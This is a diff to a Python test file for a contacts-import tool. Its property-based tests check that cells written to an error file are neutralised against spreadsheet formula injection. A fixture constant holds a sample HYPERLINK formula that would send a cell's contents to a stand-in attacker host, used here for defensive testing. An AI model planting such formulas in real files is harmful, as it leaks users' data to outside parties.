@@ -13,9 +13,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from contacts.importing.error_file import safe_cell
-from contacts.importing.row import Options, content
-from contacts.importing.tabular import FORMULA
+from contacts.importing.row import ReadOptions, content
 from contacts.models import Contact
+from contacts.values.formulas import FORMULA_STARTS
 
 LINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 CELLS = st.text(st.sampled_from([*"'=+-@\t\r\n ,;\"x5\u00a0", "\uff1d", "\uff0d"]), max_size=8)
@@ -24,10 +24,10 @@ CELLS = st.text(st.sampled_from([*"'=+-@\t\r\n ,;\"x5\u00a0", "\uff1d", "\uff0d"
 @pytest.mark.once
 @given(CELLS, st.booleans(), st.sampled_from(["--", "=", "n/a", ""]))
 def test_a_cell_is_harmless_and_reads_as_it_did(cell: str, is_csv: bool, marker: str) -> None:
-    options = Options({}, clear_marker=marker, is_csv=is_csv)
+    options = ReadOptions({}, clear_marker=marker, is_csv=is_csv)
     written = safe_cell(cell, options)
     assert content(written, options._replace(is_csv=True)) == content(cell, options)
-    assert not written.startswith(FORMULA) or cell.strip() == marker
+    assert not written.startswith(FORMULA_STARTS) or cell.strip() == marker
     again = safe_cell(written, options._replace(is_csv=True))
     assert again == written, "also in the error file of an error file"
 
@@ -54,7 +54,7 @@ def test_an_error_file_runs_nothing_and_is_imported_again(
     text = errors.read_text()
     if suffix == "csv":
         for row in csv.reader(StringIO(text)):
-            assert not any(cell.startswith(FORMULA) and cell != "--" for cell in row), row
+            assert not any(cell.startswith(FORMULA_STARTS) and cell != "--" for cell in row), row
     mended = text.replace("+1 415 555", "+14155550124").replace("+1 415", "+14155550123")
     errors.write_text(mended)
     run(errors)
